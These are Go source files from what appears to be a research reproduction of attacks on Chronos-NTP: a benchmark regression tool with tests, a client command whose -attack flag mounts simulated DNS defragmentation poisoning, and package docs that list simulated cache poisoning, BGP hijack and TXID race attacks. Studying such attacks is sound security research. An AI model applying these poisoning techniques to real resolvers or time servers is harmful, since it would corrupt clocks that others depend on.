	bad := filepath.Join(dir, "bad.json")
	writeBenchFile(t, bad, "bad", 75000, 200000)
	var out strings.Builder
	err := run(&out, []string{"-baseline", base, "-current", bad})
	if err == nil {
		t.Fatalf("25%% regression passed the gate:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "REGRESSED") || !strings.Contains(out.String(), "clients/sec") {
		t.Errorf("regression report unhelpful:\n%s", out.String())
	}

	// 10% wobble: within the 20% threshold, must pass.
	ok := filepath.Join(dir, "ok.json")
	writeBenchFile(t, ok, "ok", 90000, 190000)
	out.Reset()
	if err := run(&out, []string{"-baseline", base, "-current", ok}); err != nil {
		t.Fatalf("10%% wobble failed the gate: %v\n%s", err, out.String())
	}

	// ns/op regressions are informational only: tripling ns/op with
	// steady throughput passes.
	slow := filepath.Join(dir, "slow.json")
	f := File{Schema: BenchSchema, Rev: "slow", UnixTime: 1700000001, Points: []Point{
		{Name: "BenchmarkFleetScale/clients=1000", Iterations: 3, Metrics: map[string]float64{
			"ns/op": 3e8, "clients/sec": 99000, "subverted-fraction": 0.42}},
		{Name: "BenchmarkShiftEngine/honest-majority", Iterations: 5, Metrics: map[string]float64{
			"ns/op": 6e8, "rounds/sec": 195000, "target-rounds/sec": 100000}},
	}}
	blob, _ := json.MarshalIndent(f, "", "  ")
	if err := os.WriteFile(slow, blob, 0o644); err != nil {
		t.Fatal(err)
	}
	out.Reset()
	if err := run(&out, []string{"-baseline", base, "-current", slow}); err != nil {
		t.Fatalf("ns/op-only slowdown failed the throughput gate: %v\n%s", err, out.String())
	}
}

// TestCompareFailsOnVanishedBar: a benchmark present in the baseline but
// absent from the current run fails the gate — coverage can't silently
// shrink.
func TestCompareFailsOnVanishedBar(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "BENCH_base.json")
	writeBenchFile(t, base, "base", 100000, 200000)

	f := File{Schema: BenchSchema, Rev: "partial", UnixTime: 1700000002, Points: []Point{
		{Name: "BenchmarkFleetScale/clients=1000", Iterations: 10, Metrics: map[string]float64{
			"ns/op": 1e8, "clients/sec": 100000}},
	}}
	blob, _ := json.MarshalIndent(f, "", "  ")
	cur := filepath.Join(dir, "partial.json")
	if err := os.WriteFile(cur, blob, 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := run(&out, []string{"-baseline", base, "-current", cur}); err == nil {
		t.Fatalf("vanished benchmark passed the gate:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "VANISHED") {
		t.Errorf("vanished benchmark not reported:\n%s", out.String())
	}
}

// TestParseModeRoundTrip: -parse emits a file readable by -baseline, and
// -baseline-dir picks the newest trajectory point.
func TestParseModeRoundTrip(t *testing.T) {
	dir := t.TempDir()
	raw := filepath.Join(dir, "bench.txt")
	if err := os.WriteFile(raw, []byte(sampleBench), 0o644); err != nil {
		t.Fatal(err)
	}
	benchDir := filepath.Join(dir, "bench")
	if err := os.Mkdir(benchDir, 0o755); err != nil {
		t.Fatal(err)
	}
	out1 := filepath.Join(benchDir, "BENCH_abc.json")
	var sb strings.Builder
	if err := run(&sb, []string{"-parse", raw, "-rev", "abc", "-out", out1}); err != nil {
		t.Fatal(err)
	}
	f, err := readFile(out1)
	if err != nil {
		t.Fatal(err)
	}
	if f.Rev != "abc" || f.Schema != BenchSchema || len(f.Points) != 3 {
		t.Fatalf("parsed file malformed: rev=%q schema=%q points=%d", f.Rev, f.Schema, len(f.Points))
	}

	// An older sibling must lose the -baseline-dir race.
	writeBenchFile(t, filepath.Join(benchDir, "BENCH_old.json"), "old", 1, 1)
	old, err := readFile(filepath.Join(benchDir, "BENCH_old.json"))
	if err != nil {
		t.Fatal(err)
	}
	if old.UnixTime >= f.UnixTime {
		t.Skip("clock skew makes ordering untestable here")
	}
	sb.Reset()
	if err := run(&sb, []string{"-baseline-dir", benchDir, "-current", out1}); err != nil {
		t.Fatalf("self-comparison against newest baseline failed: %v\n%s", err, sb.String())
	}
	if !strings.Contains(sb.String(), "baseline abc") {
		t.Errorf("-baseline-dir did not pick the newest point:\n%s", sb.String())
	}
}

func TestRunRejectsBadInvocations(t *testing.T) {
	for _, args := range [][]string{
		{},
		{"-current", "nope.json"},
		{"-baseline", "a.json", "-current", "b.json", "-threshold", "0"},
		{"-baseline", "a.json", "-current", "b.json", "-threshold", "1.5"},
	} {
		if err := run(&strings.Builder{}, args); err == nil {
			t.Errorf("run(%v) succeeded, want error", args)
		}
	}
}
