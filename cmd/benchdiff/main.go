// Command benchdiff closes the benchmark loop: it parses `go test -bench`
// text output into a committed BENCH_<rev>.json trajectory point and
// compares two such points, failing (exit 1) when a throughput bar
// regresses by more than the threshold.
//
// Record a trajectory point:
//
//	go test -bench 'FleetScale|ShiftEngine|WireServe' -benchmem -benchtime 1x -run '^$' . > bench.txt
//	go run ./cmd/benchdiff -parse bench.txt -rev $(git rev-parse --short=12 HEAD) -out bench/BENCH_$(git rev-parse --short=12 HEAD).json
//
// Gate the current tree against the committed trajectory:
//
//	go run ./cmd/benchdiff -parse bench.txt -rev work -out current.json
//	go run ./cmd/benchdiff -baseline-dir bench -current current.json -threshold 0.20
//
// Two metric families are gated. Higher-is-better rates (units ending in
// "/sec", e.g. the fleet engine's clients/sec and the wire server's
// requests/sec) fail when they drop more than the threshold.
// Lower-is-better allocation counts (allocs/op, from -benchmem) fail
// when they grow more than the threshold AND by at least one whole
// allocation — so a 0 allocs/op baseline hard-fails on the first
// allocation that creeps into a zero-alloc path. ns/op, B/op and
// informational metrics (subverted-fraction, target-rounds/sec) are
// recorded but never fail the diff.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

// BenchSchema versions the BENCH_<rev>.json format.
const BenchSchema = "chronosntp/bench/v1"

// Point is one benchmark's measurements: the benchmark name (with the
// -GOMAXPROCS suffix stripped so files from different machines compare)
// and every reported metric keyed by unit.
type Point struct {
	Name       string             `json:"name"`
	Iterations int                `json:"iterations"`
	Metrics    map[string]float64 `json:"metrics"`
}

// File is a committed trajectory point: every benchmark measured at one
// revision.
type File struct {
	Schema   string  `json:"schema"`
	Rev      string  `json:"rev"`
	UnixTime int64   `json:"unix_time"`
	Points   []Point `json:"points"`
}

// benchLine matches one `go test -bench` result line:
//
//	BenchmarkFleetScale/clients=1000-8  12  95000000 ns/op  105263 clients/sec
var benchLine = regexp.MustCompile(`^(Benchmark\S+)\s+(\d+)\s+(.*)$`)

// gomaxprocsSuffix is the trailing -N the testing package appends.
var gomaxprocsSuffix = regexp.MustCompile(`-\d+$`)

// parseBench reads `go test -bench` text output into Points. Non-benchmark
// lines (goos/goarch/pkg headers, PASS, ok) are skipped.
func parseBench(r io.Reader) ([]Point, error) {
	var points []Point
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		m := benchLine.FindStringSubmatch(strings.TrimSpace(sc.Text()))
		if m == nil {
			continue
		}
		iters, err := strconv.Atoi(m[2])
		if err != nil {
			return nil, fmt.Errorf("benchdiff: bad iteration count in %q: %w", sc.Text(), err)
		}
		p := Point{
			Name:       gomaxprocsSuffix.ReplaceAllString(m[1], ""),
			Iterations: iters,
			Metrics:    make(map[string]float64),
		}
		fields := strings.Fields(m[3])
		if len(fields)%2 != 0 {
			return nil, fmt.Errorf("benchdiff: odd value/unit pairing in %q", sc.Text())
		}
		for i := 0; i < len(fields); i += 2 {
			v, err := strconv.ParseFloat(fields[i], 64)
			if err != nil {
				return nil, fmt.Errorf("benchdiff: bad metric value in %q: %w", sc.Text(), err)
			}
			p.Metrics[fields[i+1]] = v
		}
		points = append(points, p)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	if len(points) == 0 {
		return nil, fmt.Errorf("benchdiff: no benchmark lines found (did the bench run emit anything?)")
	}
	sort.Slice(points, func(i, j int) bool { return points[i].Name < points[j].Name })
	return points, nil
}

// gated reports whether a metric unit participates in the regression
// gate as a higher-is-better rate. target-rounds/sec is the documented
// acceptance bar the shift benchmark reports as a constant, not a
// measurement.
func gated(unit string) bool {
	return strings.HasSuffix(unit, "/sec") && !strings.HasPrefix(unit, "target-")
}

// gatedLower reports whether a metric unit is gated in the
// lower-is-better direction: allocation counts from -benchmem, where
// growth is the regression.
func gatedLower(unit string) bool { return unit == "allocs/op" }

// regression is one gated metric that fell below baseline × (1 − threshold).
type regression struct {
	name, unit     string
	base, cur, rel float64
}

// compare diffs current against baseline. Benchmarks present only on one
// side are reported (a silently vanishing throughput bar is itself a
// regression in coverage) but only vanished ones fail the gate.
func compare(w io.Writer, baseline, current *File, threshold float64) (failed bool) {
	base := make(map[string]Point, len(baseline.Points))
	for _, p := range baseline.Points {
		base[p.Name] = p
	}
	var regs []regression
	seen := make(map[string]bool)
	for _, cur := range current.Points {
		bp, ok := base[cur.Name]
		if !ok {
			fmt.Fprintf(w, "new       %-60s (no baseline at %s)\n", cur.Name, baseline.Rev)
			continue
		}
		seen[cur.Name] = true
		for unit, bv := range bp.Metrics {
			lower := gatedLower(unit)
			if lower {
				if bv < 0 {
					continue
				}
			} else if !gated(unit) || bv <= 0 {
				continue
			}
			cv, ok := cur.Metrics[unit]
			if !ok {
				fmt.Fprintf(w, "MISSING   %-60s %s gone from current run\n", cur.Name, unit)
				failed = true
				continue
			}
			var rel float64
			if bv > 0 {
				rel = cv/bv - 1
			}
			status := "ok"
			regressed := cv < bv*(1-threshold)
			if lower {
				// Growth is the failure, and the +1 floor keeps float noise
				// from tripping the gate while a 0-alloc baseline still
				// hard-fails on the first allocation that creeps in.
				regressed = cv > bv*(1+threshold) && cv >= bv+1
			}
			if regressed {
				status = "REGRESSED"
				regs = append(regs, regression{cur.Name, unit, bv, cv, rel})
			}
			fmt.Fprintf(w, "%-9s %-60s %-14s %12.4g -> %12.4g (%+.1f%%)\n",
				status, cur.Name, unit, bv, cv, 100*rel)
		}
	}
	for _, p := range baseline.Points {
		if !seen[p.Name] {
			if _, isNew := base[p.Name]; isNew {
				fmt.Fprintf(w, "VANISHED  %-60s present at %s, absent now\n", p.Name, baseline.Rev)
				failed = true
			}
		}
	}
	if len(regs) > 0 {
		failed = true
		fmt.Fprintf(w, "\n%d gated bar(s) regressed more than %.0f%% vs %s:\n",
			len(regs), 100*threshold, baseline.Rev)
		for _, r := range regs {
			fmt.Fprintf(w, "  %s %s: %.4g -> %.4g (%+.1f%%)\n", r.name, r.unit, r.base, r.cur, 100*r.rel)
		}
	}
	return failed
}

// readFile loads and validates a trajectory point.
func readFile(path string) (*File, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var f File
	if err := json.Unmarshal(data, &f); err != nil {
		return nil, fmt.Errorf("benchdiff: %s: %w", path, err)
	}
	if f.Schema != BenchSchema {
		return nil, fmt.Errorf("benchdiff: %s: schema %q, want %q", path, f.Schema, BenchSchema)
	}
	if len(f.Points) == 0 {
		return nil, fmt.Errorf("benchdiff: %s holds no benchmark points", path)
	}
	return &f, nil
}

// latestBaseline picks the newest BENCH_*.json in dir by recorded time.
func latestBaseline(dir string) (*File, error) {
	paths, err := filepath.Glob(filepath.Join(dir, "BENCH_*.json"))
	if err != nil {
		return nil, err
	}
	if len(paths) == 0 {
		return nil, fmt.Errorf("benchdiff: no BENCH_*.json trajectory in %s", dir)
	}
	var newest *File
	for _, p := range paths {
		f, err := readFile(p)
		if err != nil {
			return nil, err
		}
		if newest == nil || f.UnixTime > newest.UnixTime {
			newest = f
		}
	}
	return newest, nil
}

func run(w io.Writer, args []string) error {
	fs := flag.NewFlagSet("benchdiff", flag.ContinueOnError)
	fs.SetOutput(w)
	var (
		parse       = fs.String("parse", "", "path to `go test -bench` text output to parse ('-' for stdin)")
		rev         = fs.String("rev", "", "revision label to stamp into the parsed trajectory point")
		out         = fs.String("out", "", "write the parsed BENCH json to this path (default stdout)")
		baseline    = fs.String("baseline", "", "baseline BENCH json to compare against")
		baselineDir = fs.String("baseline-dir", "", "directory of BENCH_*.json files; the newest is the baseline")
		current     = fs.String("current", "", "current BENCH json to compare")
		threshold   = fs.Float64("threshold", 0.20, "relative throughput drop that fails the gate")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}

	switch {
	case *parse != "":
		in := os.Stdin
		if *parse != "-" {
			f, err := os.Open(*parse)
			if err != nil {
				return err
			}
			defer f.Close()
			in = f
		}
		points, err := parseBench(in)
		if err != nil {
			return err
		}
		file := File{Schema: BenchSchema, Rev: *rev, UnixTime: time.Now().Unix(), Points: points}
		blob, err := json.MarshalIndent(file, "", "  ")
		if err != nil {
			return err
		}
		blob = append(blob, '\n')
		if *out == "" {
			_, err = w.Write(blob)
			return err
		}
		return os.WriteFile(*out, blob, 0o644)

	case *current != "":
		cur, err := readFile(*current)
		if err != nil {
			return err
		}
		var base *File
		switch {
		case *baseline != "":
			base, err = readFile(*baseline)
		case *baselineDir != "":
			base, err = latestBaseline(*baselineDir)
		default:
			return fmt.Errorf("benchdiff: -current needs -baseline or -baseline-dir")
		}
		if err != nil {
			return err
		}
		if *threshold <= 0 || *threshold >= 1 {
			return fmt.Errorf("benchdiff: -threshold must be in (0,1), got %g", *threshold)
		}
		fmt.Fprintf(w, "baseline %s vs current %s (gate: -%.0f%% on */sec bars, +%.0f%% on allocs/op)\n",
			base.Rev, cur.Rev, 100**threshold, 100**threshold)
		if compare(w, base, cur, *threshold) {
			return fmt.Errorf("benchdiff: throughput regression vs %s", base.Rev)
		}
		fmt.Fprintln(w, "no regressions")
		return nil

	default:
		fs.Usage()
		return fmt.Errorf("benchdiff: nothing to do — pass -parse or -current")
	}
}

func main() {
	if err := run(os.Stdout, os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
