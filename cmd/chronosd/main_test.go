package main

import (
	"bytes"
	"flag"
	"fmt"
	"strings"
	"testing"
	"time"

	"chronosntp/internal/wirenet/interoptest"
)

// TestUsageCoversAllFlags regenerates the help text from the flag set
// and asserts every registered flag appears in it, so the wire-mode
// flags can never silently fall out of -help.
func TestUsageCoversAllFlags(t *testing.T) {
	var o options
	fs := newFlagSet(&o)
	var buf bytes.Buffer
	fs.SetOutput(&buf)
	fs.Usage()
	help := buf.String()
	fs.VisitAll(func(f *flag.Flag) {
		if !strings.Contains(help, "-"+f.Name) {
			t.Errorf("usage text omits registered flag -%s", f.Name)
		}
	})
	for _, want := range []string{"-upstream", "-rounds", "-timeout"} {
		if !strings.Contains(help, want) {
			t.Errorf("usage text missing %s", want)
		}
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-h"}); err != nil {
		t.Fatalf("-h should exit cleanly, got %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-no-such-flag"}); err == nil {
		t.Fatal("unknown flag was accepted")
	}
	for _, args := range [][]string{
		{"-upstream", "127.0.0.1:123", "-attack"},
		{"-upstream", "127.0.0.1:123", "-rounds", "0"},
		{"-upstream", "127.0.0.1:123", "-timeout", "-1s"},
		{"-upstream", "not-an-endpoint"},
		{"-upstream", " , ,"},
	} {
		if err := run(&strings.Builder{}, args); err == nil {
			t.Fatalf("bad flags %v were silently accepted", args)
		}
	}
	if err := run(&strings.Builder{}, []string{"-upstream", "127.0.0.1:123", "-attack"}); err == nil ||
		!strings.Contains(err.Error(), "wire mode") {
		t.Fatal("-attack with -upstream should explain the conflict")
	}
}

// TestSimSmoke runs the original simulated pipeline end to end with a
// short sync phase.
func TestSimSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("full pool generation in -short mode")
	}
	var out strings.Builder
	if err := run(&out, []string{"-seed", "2", "-sync", "30m"}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"pool generation", "chronos clock error", "classic-ntp clock error"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("sim output missing %q:\n%s", want, out.String())
		}
	}
}

// TestWireSmoke points wire mode at a real loopback farm and checks the
// rounds run and report a correction.
func TestWireSmoke(t *testing.T) {
	farm, err := interoptest.StartFarm(interoptest.FarmConfig{
		Honest:    4,
		HonestErr: 10 * time.Millisecond,
		Seed:      6,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()
	endpoints := make([]string, len(farm.Pool))
	for i, ap := range farm.Pool {
		endpoints[i] = ap.String()
	}

	var out strings.Builder
	err = run(&out, []string{
		"-upstream", strings.Join(endpoints, ","),
		"-rounds", "2", "-timeout", "500ms", "-seed", "3",
	})
	if err != nil {
		t.Fatal(err)
	}
	got := out.String()
	for _, want := range []string{"wire mode, 4 upstreams", "round 1:", "round 2:", "correction:"} {
		if !strings.Contains(got, want) {
			t.Fatalf("wire output missing %q:\n%s", want, got)
		}
	}
	if farm.TotalServed() == 0 {
		t.Fatal("wire mode reported rounds but the farm served nothing")
	}
	// Both rounds must have accepted against an honest farm.
	if strings.Contains(got, "PANIC") || strings.Contains(got, "no update") {
		t.Fatalf("honest farm rounds did not all apply:\n%s", got)
	}
}

// TestWireSmallPoolScalesRule checks the m parameter is capped at the
// pool size so tiny upstream lists remain satisfiable.
func TestWireSmallPoolScalesRule(t *testing.T) {
	farm, err := interoptest.StartFarm(interoptest.FarmConfig{Honest: 3, Seed: 6})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()
	endpoints := make([]string, len(farm.Pool))
	for i, ap := range farm.Pool {
		endpoints[i] = ap.String()
	}
	var out strings.Builder
	if err := run(&out, []string{"-upstream", strings.Join(endpoints, ","), "-rounds", "1"}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), fmt.Sprintf("m=%d", len(farm.Pool))) {
		t.Fatalf("sample size not scaled to the %d-member pool:\n%s", len(farm.Pool), out.String())
	}
}
