// Command chronosd runs a Chronos client. By default it syncs against a
// simulated internet and prints its pool-generation progress and clock
// error over time; with -attack, the paper's defragmentation poisoning
// is mounted at the given pool-generation query.
//
// With -upstream, chronosd instead disciplines its clock over real UDP:
// it runs the same chronos.Rule sampling and C1/C2 acceptance against a
// comma-separated list of NTP endpoints (for example a loopback farm
// started with poolsrv -listen) and reports the per-round decisions.
//
// Usage:
//
//	chronosd [-seed N] [-attack] [-poison-query 12] [-sync 2h]
//	chronosd -upstream 127.0.0.1:4460,127.0.0.1:4461 [-rounds 3] [-timeout 1s]
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"net/netip"
	"os"
	"strings"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/core"
	"chronosntp/internal/wirenet"
)

type options struct {
	seed        int64
	attack      bool
	poisonQuery int
	sync        time.Duration

	upstream string
	rounds   int
	timeout  time.Duration
}

func newFlagSet(o *options) *flag.FlagSet {
	fs := flag.NewFlagSet("chronosd", flag.ContinueOnError)
	fs.Int64Var(&o.seed, "seed", 1, "deterministic seed (simulation and wire-mode sampling)")
	fs.BoolVar(&o.attack, "attack", false, "mount the defragmentation poisoning attack (simulation only)")
	fs.IntVar(&o.poisonQuery, "poison-query", 12, "pool-generation query the poisoning targets")
	fs.DurationVar(&o.sync, "sync", 2*time.Hour, "synchronisation phase duration after pool generation")
	fs.StringVar(&o.upstream, "upstream", "", "comma-separated NTP endpoints (host:port); sync over real UDP instead of the simulator")
	fs.IntVar(&o.rounds, "rounds", 3, "wire mode: synchronisation rounds to run")
	fs.DurationVar(&o.timeout, "timeout", time.Second, "wire mode: per-server query timeout")
	fs.Usage = func() {
		w := fs.Output()
		fmt.Fprintln(w, "chronosd — Chronos client: simulated internet or real UDP upstreams")
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Usage:")
		fmt.Fprintln(w, "  chronosd [-seed N] [-attack] [-poison-query 12] [-sync 2h]")
		fmt.Fprintln(w, "  chronosd -upstream addr,addr,... [-rounds 3] [-timeout 1s]")
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Flags:")
		fs.PrintDefaults()
	}
	return fs
}

func main() {
	if err := run(os.Stdout, os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "chronosd:", err)
		os.Exit(1)
	}
}

func run(w io.Writer, args []string) error {
	var o options
	fs := newFlagSet(&o)
	if err := fs.Parse(args); err != nil {
		if errors.Is(err, flag.ErrHelp) {
			return nil
		}
		return err
	}
	if o.upstream != "" {
		if o.attack {
			return errors.New("-attack simulates the poisoning pipeline; it cannot be combined with -upstream (wire mode)")
		}
		if o.rounds < 1 {
			return fmt.Errorf("-rounds must be at least 1, got %d", o.rounds)
		}
		if o.timeout <= 0 {
			return fmt.Errorf("-timeout must be positive, got %v", o.timeout)
		}
		return runWire(w, &o)
	}
	return runSim(w, &o)
}

// runWire disciplines the local (virtual) clock against real UDP
// endpoints using the chronos rule.
func runWire(w io.Writer, o *options) error {
	var pool []netip.AddrPort
	for _, a := range strings.Split(o.upstream, ",") {
		a = strings.TrimSpace(a)
		if a == "" {
			continue
		}
		ap, err := netip.ParseAddrPort(a)
		if err != nil {
			return fmt.Errorf("-upstream %q: %w", a, err)
		}
		pool = append(pool, ap)
	}
	if len(pool) == 0 {
		return errors.New("-upstream lists no endpoints")
	}

	// Scale the paper's m=15 down to small hand-fed pools so the rule
	// stays satisfiable (defaults assume a pool in the hundreds).
	ccfg := chronos.Config{QueryTimeout: o.timeout}
	if len(pool) < 15 {
		ccfg.SampleSize = len(pool)
	}

	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{Pool: pool, Seed: o.seed, Chronos: ccfg})
	if err != nil {
		return err
	}
	cfg := sy.Config()
	fmt.Fprintf(w, "chronosd: wire mode, %d upstreams, m=%d d=%d K=%d\n",
		len(pool), cfg.SampleSize, cfg.Trim, cfg.Retries)
	for r := 0; r < o.rounds; r++ {
		trace := sy.SyncRound()
		switch {
		case trace.Panicked && trace.Applied:
			fmt.Fprintf(w, "round %d: PANIC applied %v after %d failed attempts\n", r+1, trace.Update, len(trace.Attempts))
		case trace.Panicked:
			fmt.Fprintf(w, "round %d: PANIC with too few replies, clock untouched\n", r+1)
		case trace.Applied:
			fmt.Fprintf(w, "round %d: applied %v (attempt %d, %d replies)\n",
				r+1, trace.Update, len(trace.Attempts), trace.Replies[len(trace.Replies)-1])
		default:
			fmt.Fprintf(w, "round %d: no update\n", r+1)
		}
	}
	st := sy.Stats()
	fmt.Fprintf(w, "correction: %v over %d rounds (updates %d, resamples %d, panics %d)\n",
		sy.Correction(), st.Rounds, st.Updates, st.Resamples, st.Panics)
	return nil
}

// runSim is the original simulated pipeline: 24-hour pool generation
// (optionally poisoned) followed by a synchronisation phase.
func runSim(w io.Writer, o *options) error {
	cfg := core.Config{
		Seed:         o.seed,
		SyncDuration: o.sync,
		RunPlainNTP:  true,
	}
	if o.attack {
		cfg.Mechanism = core.Defrag
		cfg.PoisonQuery = o.poisonQuery
	}
	s, err := core.NewScenario(cfg)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "chronosd: pool generation (24 hourly queries), attack=%v\n", o.attack)
	res, err := s.Run()
	if err != nil {
		return err
	}
	for _, q := range res.PerQuery {
		marker := ""
		if o.attack && q.Query == o.poisonQuery {
			marker = "  <- poisoning lands"
		}
		fmt.Fprintf(w, "  query %2d: %2d benign, %2d malicious (attacker %.1f%%)%s\n",
			q.Query, q.Benign, q.Malicious, 100*q.Fraction(), marker)
	}
	fmt.Fprintf(w, "pool: %d servers (%d benign, %d malicious, attacker %.1f%%)\n",
		res.PoolSize, res.PoolBenign, res.PoolMalicious, 100*res.AttackerFraction)
	fmt.Fprintf(w, "after %v sync phase:\n", o.sync)
	fmt.Fprintf(w, "  chronos clock error: %v (peak %v)\n", res.ChronosOffset, res.ChronosMaxOffset)
	fmt.Fprintf(w, "  classic-ntp clock error: %v\n", res.PlainOffset)
	fmt.Fprintf(w, "  chronos stats: %+v\n", res.ChronosStats)
	return nil
}
