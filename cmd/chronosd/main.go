// Command chronosd runs a Chronos client against a simulated internet and
// prints its pool-generation progress and clock error over time. With
// -attack, the paper's defragmentation poisoning is mounted at the given
// pool-generation query.
//
// Usage:
//
//	chronosd [-seed N] [-attack] [-poison-query 12] [-sync 2h]
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"chronosntp/internal/core"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "chronosd:", err)
		os.Exit(1)
	}
}

func run() error {
	seed := flag.Int64("seed", 1, "deterministic simulation seed")
	doAttack := flag.Bool("attack", false, "mount the defragmentation poisoning attack")
	poisonQuery := flag.Int("poison-query", 12, "pool-generation query the poisoning targets")
	sync := flag.Duration("sync", 2*time.Hour, "synchronisation phase duration after pool generation")
	flag.Parse()

	cfg := core.Config{
		Seed:         *seed,
		SyncDuration: *sync,
		RunPlainNTP:  true,
	}
	if *doAttack {
		cfg.Mechanism = core.Defrag
		cfg.PoisonQuery = *poisonQuery
	}
	s, err := core.NewScenario(cfg)
	if err != nil {
		return err
	}
	fmt.Printf("chronosd: pool generation (24 hourly queries), attack=%v\n", *doAttack)
	res, err := s.Run()
	if err != nil {
		return err
	}
	for _, q := range res.PerQuery {
		marker := ""
		if *doAttack && q.Query == *poisonQuery {
			marker = "  <- poisoning lands"
		}
		fmt.Printf("  query %2d: %2d benign, %2d malicious (attacker %.1f%%)%s\n",
			q.Query, q.Benign, q.Malicious, 100*q.Fraction(), marker)
	}
	fmt.Printf("pool: %d servers (%d benign, %d malicious, attacker %.1f%%)\n",
		res.PoolSize, res.PoolBenign, res.PoolMalicious, 100*res.AttackerFraction)
	fmt.Printf("after %v sync phase:\n", *sync)
	fmt.Printf("  chronos clock error: %v (peak %v)\n", res.ChronosOffset, res.ChronosMaxOffset)
	fmt.Printf("  classic-ntp clock error: %v\n", res.PlainOffset)
	fmt.Printf("  chronos stats: %+v\n", res.ChronosStats)
	return nil
}
