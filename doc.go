// Package chronosntp is a from-scratch reproduction of
//
//	P. Jeitner, H. Shulman, M. Waidner,
//	"Pitfalls of Provably Secure Systems in Internet:
//	 The Case of Chronos-NTP", DSN-S 2020.
//
// It contains, under internal/, a deterministic discrete-event IPv4/UDP
// network simulator and on top of it a DNS stack (wire format,
// authoritative pool.ntp.org-style server, caching iterative resolver),
// an NTP stack (wire format, server farms, a classic RFC 5905 client),
// the Chronos client of NDSS 2018, the paper's attacks (defragmentation
// cache poisoning, BGP hijack interception, TXID race, SMTP triggering),
// the §V mitigations plus a multi-resolver consensus defence, the
// closed-form security analysis, and the experiment harness regenerating
// the paper's figure and quantitative claims.
//
// internal/runner adds a Monte-Carlo engine on top: it expands a grid of
// scenario configurations (seeds × mechanisms × poison-query indices ×
// mitigation toggles) across a worker pool and streams per-trial results
// into an order-independent aggregator (internal/stats), so every
// experiment can report mean ± 95% CI across replicas — bit-identically
// at any parallelism level.
//
// Entry points: cmd/attacksim runs any experiment (-trials N -parallel N
// for Monte-Carlo mode, -sweep for grid sweeps); examples/ hold runnable
// walkthroughs; bench_test.go regenerates every paper artefact as a
// benchmark and tracks the runner's trials/sec.
package chronosntp
