// Package chronosntp is a from-scratch reproduction of
//
//	P. Jeitner, H. Shulman, M. Waidner,
//	"Pitfalls of Provably Secure Systems in Internet:
//	 The Case of Chronos-NTP", DSN-S 2020.
//
// It contains, under internal/, a deterministic discrete-event IPv4/UDP
// network simulator and on top of it a DNS stack (wire format,
// authoritative pool.ntp.org-style server, caching iterative resolver),
// an NTP stack (wire format, server farms, a classic RFC 5905 client),
// the Chronos client of NDSS 2018, the paper's attacks (defragmentation
// cache poisoning, BGP hijack interception, TXID race, SMTP triggering),
// the §V mitigations plus a multi-resolver consensus defence, the
// closed-form security analysis, and the experiment harness regenerating
// the paper's figure and quantitative claims.
//
// internal/runner adds a Monte-Carlo engine on top: it expands a grid of
// scenario configurations (seeds × mechanisms × poison-query indices ×
// mitigation toggles) across a worker pool and streams per-trial results
// into an order-independent aggregator (internal/stats), so every
// experiment can report mean ± 95% CI across replicas — bit-identically
// at any parallelism level.
//
// internal/fleet scales the reproduction from one client to a
// population: N shared caching resolvers with a Zipf- or
// uniformly-distributed client fan-out (Chronos pool generation plus
// classic NTP bootstraps behind every cache), the attacker poisoning a
// configurable subset of resolvers through the existing mechanisms. Each
// resolver shard is an independent seeded simulation fanned across the
// runner's worker pool and reduced in shard order, so fleet results are
// bit-identical at any parallelism; clients share their resolver through
// a direct in-process handle while the resolver's upstream traffic — the
// attack surface — stays on the simulated wire. The E9 experiment sweeps
// poisoned-resolver count × fan-out × §V mitigations and reports the
// population subverted/shifted fractions and the cache-amplification
// factor (clients subverted per poisoned resolver).
//
// internal/shiftsim is the long-horizon shift engine: it validates the
// paper's headline "decades to shift" bound empirically instead of
// assuming the closed form. The Chronos decision core (sample m, trim
// 2d, C1/C2, K-failure panic escalation) is extracted into
// chronos.Rule/Round and shared between the packet client and the
// engine, which drives it over weeks-to-years of virtual time against
// adaptive attacker strategies (greedy, stealth, intermittent,
// honest-until-threshold — all reading the client's clock error off its
// own requests). A round-compression fast path (simnet.FastForward)
// hops the idle wire time between rounds, sustaining hundreds of
// thousands of simulated rounds per second; a full packet-fidelity wire
// mode cross-checks the compressed dynamics. The E10 experiment
// cross-tabulates empirical time-to-100ms-shift × attacker fraction ×
// strategy × §V mitigation against the closed-form prediction, and the
// fleet's population "shifted" metric is sampled through the same
// engine rather than assumed.
//
// Entry points: cmd/attacksim runs any experiment (-trials N -parallel N
// for Monte-Carlo mode, -sweep for grid sweeps, -fleet -clients N
// -resolvers N for a population run, -shift/-horizon/-strategy for the
// E10 shift study); examples/ hold runnable walkthroughs; bench_test.go
// regenerates every paper artefact as a benchmark and tracks the
// runner's trials/sec, the fleet engine's clients/sec, and the shift
// engine's rounds/sec.
//
// EXPERIMENTS.md catalogs every experiment (claim, invocation, typed
